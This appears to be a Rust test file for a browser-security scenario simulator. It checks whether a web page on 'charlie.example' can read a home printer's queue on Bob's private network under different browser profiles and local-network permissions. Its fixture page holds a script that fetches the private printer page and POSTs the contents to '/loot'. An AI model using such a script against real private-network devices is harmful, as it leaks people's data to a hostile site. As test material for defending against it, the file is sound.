//! What a person allows when their browser asks, as a scenario says it.

#![allow(clippy::unwrap_used)]

use crossexam_scenario::{Folder, RunOptions, Scenario, run};

/// Who has learned the secret of the printer in Bob's network once Bob has visited Charlie's page.
fn who_reads_the_printer(profile: &str, permissions: &str) -> bool {
    let text = format!(
        r#"id = "T02"
title = "A printer at home"

[person.bob]
network = "private"

[machine.printer]
owner = "bob"
hosts = ["https://printer.example"]
network = "private"
pages = {{ "/" = {{ body = "{{{{secret.queue}}}}", headers = {{ Access-Control-Allow-Origin = "*" }} }} }}

[machine.charlie]
pages = {{ "/" = "charlie.html" }}

[secret.queue]
owner = "bob"

[browser.bob]
profile = "{profile}"
permissions = {{ {permissions} }}

[[story]]
who = "bob"
visit = "https://charlie.example/"

[expect]
learns = {{ charlie = "queue" }}
"#
    );
    let page = "<script>fetch('https://printer.example/')
        .then(answer => answer.text())
        .then(queue => fetch('/loot', { method: 'POST', body: queue }))</script>";
    let files = [("scenario.toml", text), ("charlie.html", page.to_owned())];
    let loaded = Scenario::load(Folder::new("scenarios/T02-printer", files));
    assert!(loaded.diagnostics.is_empty(), "{:#?}", loaded.diagnostics);
    let run = run(&loaded.scenario.unwrap(), None, &RunOptions::default()).unwrap();
    run.verdict.findings.iter().all(|finding| finding.passed)
}

#[test]
fn a_person_is_asked_where_the_browser_asks_and_declines_unless_the_scenario_says_otherwise() {
    let charlie = r#""https://charlie.example" = ["local-network"]"#;
    assert!(who_reads_the_printer("standard", ""));
    assert!(!who_reads_the_printer("chromium", ""));
    assert!(who_reads_the_printer("chromium", charlie));
    let loopback = r#""https://charlie.example" = ["loopback-network"]"#;
    assert!(!who_reads_the_printer("chromium", loopback));
    let another = r#""https://alice.example" = ["local-network"]"#;
    assert!(!who_reads_the_printer("chromium", another));
}
